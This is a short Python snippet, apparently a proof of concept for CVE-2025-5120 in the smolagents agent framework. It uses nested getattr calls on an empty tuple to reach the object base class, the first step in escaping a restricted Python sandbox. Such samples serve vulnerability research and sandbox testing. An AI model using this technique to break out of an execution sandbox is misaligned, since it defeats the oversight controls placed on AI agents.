# Source: smolagents CVE-2025-5120 (https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/5xxx/CVE-2025-5120.json), getattr leakage, per https://github.com/huggingface/smolagents/issues/2125
base = getattr(getattr((), "__class__"), "__base__")
print(base)
